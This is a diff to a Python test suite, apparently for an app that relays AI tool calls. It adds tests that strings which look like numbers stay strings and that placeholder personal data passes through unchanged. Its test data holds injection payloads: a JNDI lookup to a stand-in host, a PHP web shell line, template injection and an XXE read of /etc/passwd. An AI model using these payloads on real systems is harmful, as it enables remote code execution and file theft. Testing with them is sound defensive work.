@@ -34,6 +34,12 @@ _SUSPICIOUS = (
     "${jndi:ldap://files.example/a} {{7*7}} <?php system($_GET['c']); ?> %00",
     "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
 )
+_LOOK_ALIKES = ("12", "007", "-1.50", "1e3", "true", "null", "2026-11-24", "[]", "")
+# none of them is anybody's: names for examples, and numbers from documentation
+_PERSONAL = (
+    "erika.mustermann@mail.example, +49 30 123456, 192.0.2.7, "
+    "card 4111 1111 1111 1111, IBAN DE89 3704 0044 0532 0130 00, SSN 123-45-6789"
+)
 _NUMBERS: dict[str, Any] = {
     "id": 9_007_199_254_740_991,
     "below": -9_007_199_254_740_991,
@@ -181,3 +187,39 @@ def test_unusual_json_is_kept(desktop: DesktopApp, provider: ScriptedProvider) -
         kept(tools, came.body.get("tools"), "the tools")
         arguments = [block.get("input") for block in came.turn.blocks]
         kept_in_answer([unusual], arguments, "the call of the answer")
+
+
+@requirement(
+    "MSG-67",
+    MUST,
+    source="standard: RFC 8259, a string is a string whatever it holds",
+    why="Tools are called with other arguments than the model chose: an id loses its zeros, a text is a number.",
+    fix="Do not convert strings that look like numbers, dates or lists (JSON_NUMERIC_CHECK in PHP does).",
+    since="0.2",
+)
+def test_strings_stay_strings(desktop: DesktopApp, provider: ScriptedProvider) -> None:
+    """Strings that look like numbers, truth values, dates or lists stay strings."""
+    arguments = {f"value {number}": text for number, text in enumerate(_LOOK_ALIKES)}
+    history = _history(arguments, "12")
+    plan = Plan(blocks=[Block.of(_call(arguments))], stop_reason="tool_use")
+    for came in arrivals(desktop, provider, plan=plan, further=history):
+        kept(history, came.further, "the strings")
+        calls = [b.get("input") for b in came.turn.blocks if b.get("type") == "tool_use"]
+        same([arguments], calls, "the tool's input", hop=_TO_CLIENT)
+
+
+@requirement(
+    "MSG-68",
+    SHOULD,
+    source="field: guardrails that mask personal data in the texts that pass",
+    why="Edits of files with addresses in them do not match, and placeholders are written into files.",
+    fix="Refuse what must not leave the house with a readable error, rather than rewrite it on the way.",
+    since="0.2",
+)
+def test_personal_data_is_not_rewritten(desktop: DesktopApp, provider: ScriptedProvider) -> None:
+    """Text with addresses, telephone and card numbers arrives unchanged, both ways."""
+    history = _history({"content": _PERSONAL}, _PERSONAL)
+    plan = Plan(blocks=[Block("text", [_PERSONAL])])
+    for came in arrivals(desktop, provider, plan=plan, further=history):
+        kept(history, came.further, "the text")
+        same(_PERSONAL, came.turn.text, "the answer's text", hop=_TO_CLIENT)
